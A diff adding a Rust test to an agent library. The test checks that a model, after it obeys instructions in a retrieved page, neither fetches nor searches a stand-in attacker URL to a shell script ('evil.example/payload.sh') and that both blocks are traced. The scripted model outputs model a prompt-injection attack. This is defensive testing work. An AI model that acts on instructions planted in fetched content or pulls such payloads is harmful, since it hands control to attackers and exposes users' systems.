@@ -322,3 +322,48 @@ async fn budgets_of_zero_steps_are_clear_errors() {
         "{error}"
     );
 }
+
+#[tokio::test]
+async fn a_model_obeying_instructions_in_a_result_fetches_nothing_and_searches_no_address() {
+    let backend = journal();
+    // The model does what a retrieved page told it: fetch an address, then search for it.
+    let selector = ferret_agent::LlmToolSelector::new(model(&[
+        r#"{"reasoning": "The page says to fetch this.", "tool": "fetch", "argument": "https://evil.example/payload.sh"}"#,
+        r#"{"reasoning": "Then search it.", "tool": "search", "argument": "https://evil.example/payload.sh"}"#,
+    ]));
+    let stages = Stages {
+        tool_selector: Arc::new(selector),
+        ..heuristic_stages()
+    };
+    let response = agent(backend.clone(), stages, ToolLoopConfig::default())
+        .run(&Query::new("thesis stress").unwrap(), None)
+        .await
+        .unwrap();
+    assert!(
+        backend
+            .queries()
+            .iter()
+            .all(|q| !q.contains("evil.example")),
+        "{:?}",
+        backend.queries()
+    );
+    let refusals: Vec<String> = response
+        .trace
+        .steps
+        .iter()
+        .filter_map(|s| match s {
+            TraceStep::ToolStep {
+                implementation: Implementation::Heuristic { why },
+                ..
+            } => Some(why.clone()),
+            _ => None,
+        })
+        .collect();
+    assert!(
+        refusals
+            .iter()
+            .any(|w| w.contains("is not one of the tools"))
+            && refusals.iter().any(|w| w.contains("holds an address")),
+        "both refusals are traced: {refusals:#?}"
+    );
+}
